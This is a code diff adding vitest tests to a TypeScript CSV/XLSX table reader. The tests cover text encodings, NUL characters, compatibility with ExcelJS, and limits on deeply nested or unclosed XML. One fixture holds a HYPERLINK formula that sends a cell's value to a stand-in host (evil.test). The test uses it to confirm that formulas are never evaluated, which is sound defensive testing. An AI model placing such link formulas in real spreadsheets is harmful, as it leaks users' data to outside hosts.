@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { TABLE_BOUNDS } from './read-table-file.ts';
 import { readTable } from './table-file-reader.ts';
+import { loadExcel } from './table-files.ts';
 import { bombXlsx, hugeCellXlsx, millionRowsCsv, millionRowsXlsx, workbook } from '../test/hostile-tables.ts';
 
 const csv = (text: string) => new Uint8Array(Buffer.from(text));
@@ -61,5 +62,71 @@ describe('table file reader (bounds of docs/decisions/0034)', () => {
       problem: 'unreadable',
     });
     expect(await readTable(csv(''), false, TABLE_BOUNDS)).toEqual({ problem: 'unreadable' });
+    // UTF-16 without its mark, or a binary file: a NUL is no text.
+    const utf16 = new Uint8Array(Buffer.from('Nom;Prix\nSel;1\n', 'utf16le'));
+    expect(await readTable(utf16, false, TABLE_BOUNDS)).toEqual({ problem: 'unreadable' });
+    // In a sheet, &#0; and a raw NUL are dropped from the cell's text.
+    const nul = await workbook(
+      () => [
+        '<row r="1"><c r="A1" t="inlineStr"><is><t>Nom</t></is></c></row>',
+        '<row r="2"><c r="A2" t="inlineStr"><is><t>S&#0;el\u0000</t></is></c></row>',
+      ],
+      null,
+    );
+    expect(await readTable(nul, true, TABLE_BOUNDS)).toEqual({ headers: ['Nom'], rows: [{ Nom: 'Sel' }] });
+  });
+
+  it('reads a workbook written by ExcelJS (the library that read these files before) as ExcelJS gave it: dates as AAAA-MM-JJ, a formula as its last result, rich text as its text', async () => {
+    const ExcelJS = await loadExcel();
+    const book = new ExcelJS.Workbook();
+    const sheet = book.addWorksheet('Ventes');
+    sheet.addRow(['Date', 'Article', 'Quantité', 'Lien']);
+    sheet.addRow([
+      new Date(Date.UTC(2026, 2, 2)),
+      { richText: [{ text: 'Crème ' }, { text: 'brûlée', font: { bold: true } }] },
+      3,
+      { formula: 'HYPERLINK("http://evil.test/?x="&A1,"clic")', result: 'clic' },
+    ]);
+    sheet.addRow([new Date(Date.UTC(1999, 11, 31)), 'Sel & poivre', 2.5, { formula: '1+1' }]);
+    sheet.getCell('A3').numFmt = 'dd/mm/yyyy';
+    const bytes = new Uint8Array(await book.xlsx.writeBuffer());
+    expect(await readTable(bytes, true, TABLE_BOUNDS)).toEqual({
+      headers: ['Date', 'Article', 'Quantité', 'Lien'],
+      rows: [
+        { Date: '2026-03-02', Article: 'Crème brûlée', Quantité: '3', Lien: 'clic' },
+        // A formula without a stored result is read as empty: nothing is ever computed.
+        { Date: '1999-12-31', Article: 'Sel & poivre', Quantité: '2.5', Lien: '' },
+      ],
+    });
+  });
+
+  it('reads a CSV in UTF-8 (with or without BOM), UTF-16 with its BOM, and Windows-1252 (a French Excel’s « CSV »)', async () => {
+    const expected = { headers: ['Nom', 'Prix'], rows: [{ Nom: 'Crème brûlée œuf', Prix: '9,80 €' }] };
+    const text = 'Nom;Prix\nCrème brûlée œuf;9,80 €\n';
+    const utf16 = (le: boolean) => {
+      const body = Buffer.from(text, 'utf16le');
+      if (!le) body.swap16();
+      return new Uint8Array([...(le ? [0xff, 0xfe] : [0xfe, 0xff]), ...body]);
+    };
+    // Windows-1252 by hand: é = E9, è = E8, û = FB, œ = 9C, € = 80 (WHATWG index-windows-1252).
+    const cp1252 = new Uint8Array(
+      [...text].map((ch) => ({ é: 0xe9, è: 0xe8, û: 0xfb, œ: 0x9c, '€': 0x80 })[ch] ?? ch.charCodeAt(0)),
+    );
+    for (const bytes of [csv(text), csv(`\uFEFF${text}`), utf16(true), utf16(false), cp1252])
+      expect(await readTable(bytes, false, TABLE_BOUNDS)).toEqual(expected);
+  });
+
+  it('refuses deeply nested or unclosed XML in a sheet within its bounds, never reading it whole', async () => {
+    const nested = await workbook(function* () {
+      yield '<row r="1"><c r="A1" t="inlineStr"><is><t>Nom</t></is></c></row><row r="2">';
+      yield '<x>'.repeat(200_000);
+      yield '</row>';
+    }, null);
+    expect(await readTable(nested, true, TABLE_BOUNDS)).toEqual({ problem: 'cellTooLong' });
+    const unclosed = await workbook(function* () {
+      yield '<row r="1"><c r="A1" t="inlineStr"><is><t>Nom</t></is></c></row><row r="2"><c r="A2"><v>';
+      yield 'a'.repeat(1_000_000);
+    }, null);
+    expect(await readTable(unclosed, true, TABLE_BOUNDS)).toEqual({ problem: 'cellTooLong' });
   });
 });
